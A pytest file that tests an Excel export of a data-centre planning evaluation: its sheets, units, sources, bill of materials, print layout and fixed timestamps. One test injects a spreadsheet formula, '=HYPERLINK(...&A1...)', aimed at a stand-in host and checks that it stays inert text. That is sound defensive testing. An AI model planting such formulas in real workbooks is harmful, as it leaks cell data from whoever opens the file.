"""The workbook read back: what is on its sheets, as numbers, with units, sources and a page to print."""

from __future__ import annotations

import dataclasses
import io
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import Workbook, load_workbook

from app.charts.key_figures import key_figures
from app.saved.imports import SHEET_OF_SCENARIO, import_scenario
from app.scenarios.load import build_scenario, parse_scenario
from app.surfaces.files.rows import ROOMS
from app.surfaces.files.text import value_at
from app.surfaces.files.work import Work
from app.surfaces.files.workbook.book import evaluation_xlsx
from tests.surfaces.files.conftest import WITH_UNKNOWNS, WITHOUT_FABRIC

SHEETS = [
    "Summary", "Inputs", "Performance", "Fabric", "Reliability", "Power", "Cooling", "Cooling tables", "Cost",
    "Carbon", "Bill of materials", "Cost build-up",
    "Problems", "Sources", "Scenario", "About",
]  # fmt: skip


def opened(content: bytes, *, values: bool = True) -> Workbook:
    return load_workbook(io.BytesIO(content), data_only=values)


@pytest.fixture(scope="module")
def book(flagship) -> Workbook:
    return opened(evaluation_xlsx(flagship))


def column(sheet, number: int) -> list:
    return [row[number - 1].value for row in sheet.iter_rows()]


def test_it_has_its_sheets_in_order(book):
    assert book.sheetnames == SHEETS


def test_the_summary_has_every_key_figure(book, flagship):
    assert book["Summary"]["A1"].value == "Llama 3.1 405B on 2,048 DGX H100"
    assert set(key_figures(flagship.evaluated.as_json)) <= set(column(book["Summary"], 4))


def test_rooms_hold_every_figure_as_a_number_with_its_unit(book, flagship):
    assert "Workloads" not in book.sheetnames  # one workload has the pod to itself
    for room in (room for room in ROOMS if room != "workloads"):
        sheet = book[room.capitalize()]
        found = {row[6].value: row for row in sheet.iter_rows(min_row=2) if len(row) > 6 and row[6].value}
        for path, row in found.items():
            if str(path).startswith(f"{room}.") and "[" not in path and isinstance(row[1].value, float | int):
                assert row[1].value == pytest.approx(value_at(flagship.evaluated.as_json, path), rel=1e-12)
                assert row[4].value, f"{path} has no formula"
                assert row[5].value, f"{path} has no source"
    step = next(row for row in book["Performance"].iter_rows() if row[6].value == "performance.step_time_s")
    assert step[2].value == "s"


def test_tables_have_a_sheet_of_their_own(book, flagship):
    matrix = flagship.evaluated.as_json["cooling"]["pue_by_month_and_hour"]
    rows = list(book["Cooling tables"].iter_rows(min_row=3, max_row=14, min_col=2, values_only=True))
    assert [list(row) for row in rows] == [
        pytest.approx(row, rel=1e-14) for row in matrix
    ]  # Excel has 16 digits


def test_every_input_has_a_unit_or_is_bare_and_a_source_or_is_stated(book, flagship):
    rows = [row for row in book["Inputs"].iter_rows(min_row=2) if row[3].value]
    # what the curve gives at the end of the life follows from the inputs, and is none
    assert len(rows) == len(flagship.evaluated.resolved.origins) - 1
    assert [row[0].value for row in rows if not row[4].value and row[3].value != "unknown"] == []
    tokens = next(row for row in rows if row[10].value == "workload.tokens")
    assert [cell.value for cell in tokens[:5]] == [
        "Training tokens",
        15.6e12,
        "tokens",
        "scenario",
        "stated in the scenario",
    ]


def test_sources_named_in_the_inputs_are_listed_with_licence_and_credit(book):
    listed = {row[0].value: row for row in book["Sources"].iter_rows(min_row=2) if row[0].value}
    named = {
        word
        for text in column(book["Inputs"], 5)
        for word in str(text).replace(",", " ").split()
        if word.startswith("[") and word.endswith("]")
    }
    assert named
    assert named <= set(listed)
    epoch = next(row for row in listed.values() if row[1].value.startswith("Epoch AI Hardware prices"))
    assert epoch[3].value == "CC BY 4.0"
    assert epoch[5].value


def test_the_bill_counts_the_fabric(book, flagship):
    sheet = book["Bill of materials"]
    rows = {row[0].value: row for row in sheet.iter_rows()}
    fabric = flagship.evaluated.as_json["fabric"]
    assert [rows["Spine"][number].value for number in range(1, 4)] == [512, 16384, 16384]
    assert rows["Total"][3].value == pytest.approx(fabric["network_price_usd"])
    assert rows["DGX H100"][1].value == 2048
    assert rows["DGX H100, spare"][1].value == 23


@pytest.mark.slow
def test_a_pod_without_a_fabric_says_so(work_of_example):
    words = column(opened(evaluation_xlsx(work_of_example(WITHOUT_FABRIC)))["Bill of materials"], 1)
    assert "None: the SuperNodes are not joined by a fabric." in words


@pytest.mark.slow
def test_unknown_says_so_and_is_never_nought(work_of_example):
    book = opened(evaluation_xlsx(work_of_example(WITH_UNKNOWNS)))
    rows = {row[6].value: row[1].value for row in book["Cost"].iter_rows()}
    assert rows["cost.tco_usd"] == "unknown"
    assert "Unknown" in column(book["Problems"], 1)


def test_the_scenario_sheet_is_the_scenario(book, flagship):
    text = "\n".join(column(book[SHEET_OF_SCENARIO], 1))
    assert parse_scenario(text) == flagship.document


def test_about_says_what_it_was_made_with(flagship):
    saved = dataclasses.replace(
        flagship, revision=4, note="denser racks", saved_at=datetime(2026, 5, 4, 12, 30, tzinfo=UTC)
    )
    book = opened(evaluation_xlsx(saved))
    about = {row[0].value: row[1].value for row in book["About"].iter_rows(max_col=2)}
    provenance = flagship.evaluated.as_json["provenance"]
    assert about["Catalog revision"] == provenance["catalog_revision"]
    assert about["Inputs hash"] == provenance["inputs_hash"]
    assert about["Revision"] == "4, saved 2026-05-04 12:30 UTC: denser racks"
    assert about["Estimates"].startswith("Planning estimates, not guarantees")
    assert book.properties.created == datetime(2026, 5, 4, 12, 30)  # noqa: DTZ001  files have no time zone


def test_nothing_in_the_file_is_of_the_clock(flagship):
    with zipfile.ZipFile(io.BytesIO(evaluation_xlsx(flagship))) as packed:
        assert {entry.date_time for entry in packed.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert b"1980-01-01T00:00:00Z" in packed.read("docProps/core.xml")


@pytest.mark.slow
def test_tables_can_be_scrolled_and_printed(flagship):
    book = opened(evaluation_xlsx(flagship), values=False)
    for name in ("Summary", "Inputs", "Performance", "Cost", "Cost build-up", "Problems", "Sources"):
        sheet = book[name]
        assert sheet.freeze_panes, name
        assert sheet.print_title_rows, name
        assert sheet.page_setup.paperSize == 9, name
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, name
        assert sheet.page_setup.fitToHeight == 0, f"{name} is as long as it needs to be"
        assert sheet.column_dimensions["A"].width > 5, name


@pytest.mark.slow
def test_text_is_never_taken_for_a_formula(flagship):
    book = opened(evaluation_xlsx(flagship), values=False)
    computed = {
        sheet.title for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    }
    assert computed == {"Summary", "Cost", "Bill of materials", "Cost build-up"}


@pytest.mark.slow
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_words_of_people_are_text_in_every_sheet_and_come_back_as_they_were(flagship, start):
    """A quote before them would be seen: a cell of a workbook says itself that it is text."""
    words = f'{start}HYPERLINK("http://example.org/?a="&A1,"a")'
    document = build_scenario(flagship.document.as_dict() | {"name": words, "description": words})
    evaluated = dataclasses.replace(flagship.evaluated, document=document)
    evaluated.__dict__["as_json"] = flagship.evaluated.as_json | {"name": words}
    content = evaluation_xlsx(Work(document, lambda: evaluated))
    cells = [cell for sheet in opened(content, values=False) for row in sheet.iter_rows() for cell in row]
    hostile = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
    assert {cell.parent.title for cell in hostile} >= {"Summary", "Scenario"}
    assert {cell.data_type for cell in hostile} == {"s"}
    assert not [cell.value for cell in cells if cell.data_type == "f" and "HYPERLINK" in str(cell.value)]
    assert import_scenario(content, "pod.xlsx").name == document.name


def test_figures_of_speed_have_the_ends_of_their_interval(book, flagship):
    """Those of costs are left out: they would not follow when the inputs of the workbook are changed."""
    rows = {row[6].value: row for row in book["Performance"].iter_rows(min_row=2)}
    bounds = flagship.evaluated.as_json["intervals"]["performance"]
    for name, interval in bounds.items():
        low, high = (cell.value for cell in rows[f"performance.{name}"][7:9])
        assert (low, high) == pytest.approx((interval["low"], interval["high"]))
    costs = {row[6].value: row for row in book["Cost"].iter_rows(min_row=2)}
    assert [cell.value for cell in costs["cost.usd_per_run"][7:9]] == [None, None]
